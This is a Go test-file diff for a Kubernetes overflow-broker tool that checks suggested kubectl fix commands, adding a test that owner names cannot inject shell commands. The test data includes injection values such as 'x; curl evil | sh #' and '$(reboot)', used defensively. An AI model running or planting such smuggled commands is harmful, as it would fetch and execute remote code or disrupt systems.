@@ -254,19 +254,22 @@ func TestFixes(t *testing.T) {
 	for name, want := range map[string]struct {
 		outcome explain.Outcome
 		fix     string
+		manual  bool
 	}{
-		"not-opted-in":    {explain.OutcomeBlocked, "kubectl label namespace shop broker.fluidos.eu/overflow=enabled"},
-		"capped":          {explain.OutcomeBlocked, `{"cpu":"6"}`},
-		"queued":          {explain.OutcomeWaiting, ""},
-		"pod-security":    {explain.OutcomeWaiting, `"runAsNonRoot":true`},
-		"gang-incomplete": {explain.OutcomeBlocked, ""},
-		"wrong-scheduler": {explain.OutcomeBlocked, "kubectl -n shop patch deployment web"},
-		"unsteered":       {explain.OutcomeBlocked, "kubectl -n shop rollout restart deployment/web"},
-		"daemonset":       {explain.OutcomeBlocked, ""},
-		"provider-lost":   {explain.OutcomeBlocked, "kubectl describe node spillway-paris"},
-		"running":         {explain.OutcomeOverflow, ""},
-		"at-home":         {explain.OutcomeHome, ""},
-		"reservation":     {explain.OutcomeGranted, ""},
+		"not-opted-in":    {outcome: explain.OutcomeBlocked, fix: "kubectl label namespace shop broker.fluidos.eu/overflow=enabled"},
+		"capped":          {explain.OutcomeBlocked, `{"cpu":"6"}`, true},
+		"queued":          {outcome: explain.OutcomeWaiting, fix: ""},
+		"pod-security":    {explain.OutcomeWaiting, `"runAsNonRoot":true`, true},
+		"cordoned":        {explain.OutcomeBlocked, "kubectl uncordon", true},
+		"failed":          {explain.OutcomeBlocked, "delete reservation", true},
+		"gang-incomplete": {outcome: explain.OutcomeBlocked, fix: ""},
+		"wrong-scheduler": {outcome: explain.OutcomeBlocked, fix: "kubectl -n shop patch deployment web"},
+		"unsteered":       {outcome: explain.OutcomeBlocked, fix: "kubectl -n shop rollout restart deployment/web"},
+		"daemonset":       {outcome: explain.OutcomeBlocked, fix: ""},
+		"provider-lost":   {outcome: explain.OutcomeBlocked, fix: "kubectl describe node spillway-paris"},
+		"running":         {outcome: explain.OutcomeOverflow, fix: ""},
+		"at-home":         {outcome: explain.OutcomeHome, fix: ""},
+		"reservation":     {outcome: explain.OutcomeGranted, fix: ""},
 	} {
 		o := shop()
 		situations[name](o)
@@ -278,8 +281,29 @@ func TestFixes(t *testing.T) {
 		if e.Fix != nil {
 			commands = strings.Join(e.Fix.Commands, "\n")
 		}
+		if e.Fix != nil && e.Fix.Manual != want.manual {
+			t.Errorf("%s: needs a decision: %t, want %t", name, e.Fix.Manual, want.manual)
+		}
 		if !strings.Contains(commands, want.fix) {
 			t.Errorf("%s: the fix is %q, want %q", name, commands, want.fix)
+		}
+	}
+}
+
+// TestOwnersAreNamesOnly: the author of a pod writes its owner's name; no command has one that a shell
+// would take for more.
+func TestOwnersAreNamesOnly(t *testing.T) {
+	for _, name := range []string{"x; curl evil | sh #", "$(reboot)", "web`id`", "a b"} {
+		for situation, change := range situations {
+			o := shop()
+			change(o)
+			if o.Owner == nil {
+				continue
+			}
+			o.Owner.Name = name
+			if e := explain.Explain(o); e.Fix != nil && strings.Contains(strings.Join(e.Fix.Commands, "\n"), name) {
+				t.Errorf("%s: the commands are %q", situation, e.Fix.Commands)
+			}
 		}
 	}
 }
